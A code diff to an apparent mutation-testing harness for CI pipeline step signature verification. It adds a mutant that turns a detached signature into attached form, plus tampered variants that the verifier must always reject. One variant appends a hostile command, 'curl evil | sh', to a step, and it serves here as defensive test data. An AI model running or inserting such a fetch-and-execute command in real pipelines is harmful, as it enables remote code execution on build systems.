@@ -195,7 +195,7 @@ func mutateLeafValue(r *rand.Rand, v any) any {
 }
 
 // c01Mutants builds every applicable single-point mutation.
-func c01Mutants(r *rand.Rand, sc *signCase, sig *pipeline.Signature, kp, other, otherKind *keys.Pair, spliceValue string) []c01Mutant {
+func c01Mutants(r *rand.Rand, sc *signCase, sig *pipeline.Signature, kp, other, otherKind *keys.Pair, spliceValue string, signPayload []byte) []c01Mutant {
 	var out []c01Mutant
 	venv := copyEnv(sc.Penv)
 	venv["UNRELATED_BUILDKITE_VAR"] = "added by the backend"
@@ -552,6 +552,30 @@ func c01Mutants(r *rand.Rand, sc *signCase, sig *pipeline.Signature, kp, other, 
 		parts[0] = base64.RawURLEncoding.EncodeToString(nb)
 		s.Value = strings.Join(parts, ".")
 	})
+	// the detached value rewritten into the attached form h.<payload that was signed>.s (needs no key): the record is
+	// altered, and what counts is the payload computed from the presented step, never one carried in the value
+	attach := func(s *pipeline.Signature) {
+		parts := strings.Split(s.Value, ".")
+		if len(parts) != 3 || len(signPayload) == 0 {
+			s.Value = "malformed"
+			return
+		}
+		parts[1] = base64.RawURLEncoding.EncodeToString(signPayload)
+		s.Value = strings.Join(parts, ".")
+	}
+	rec("sig:payload-attached", attach)
+	{
+		m := base("sig:payload-attached+command-changed")
+		attach(m.Sig)
+		m.Step.Command += " && curl evil | sh"
+		m.AlwaysReject = true
+		add(m)
+		m = base("sig:payload-attached+repo-changed")
+		attach(m.Sig)
+		m.Repo += "-fork"
+		m.AlwaysReject = true
+		add(m)
+	}
 	rec("sig:header-alg-none", func(s *pipeline.Signature) {
 		parts := strings.Split(s.Value, ".")
 		if len(parts) != 3 {
@@ -630,7 +654,7 @@ func checkC01(c *run.Ctx) {
 		}
 		sem0 := semanticForm(sc.Step, sc.Penv, sc.Repo, sig.Algorithm)
 		c.Feature(kind, len(sc.Step.Plugins) > 0, sc.Step.Matrix != nil, len(sc.Step.Env) > 0, len(sc.Penv) > 0)
-		muts := c01Mutants(r, sc, sig, kp, other, otherKind, splice)
+		muts := c01Mutants(r, sc, sig, kp, other, otherKind, splice, signPayload)
 		for _, m := range muts {
 			c.Eval(1)
 			detail := func(what string) map[string]any {
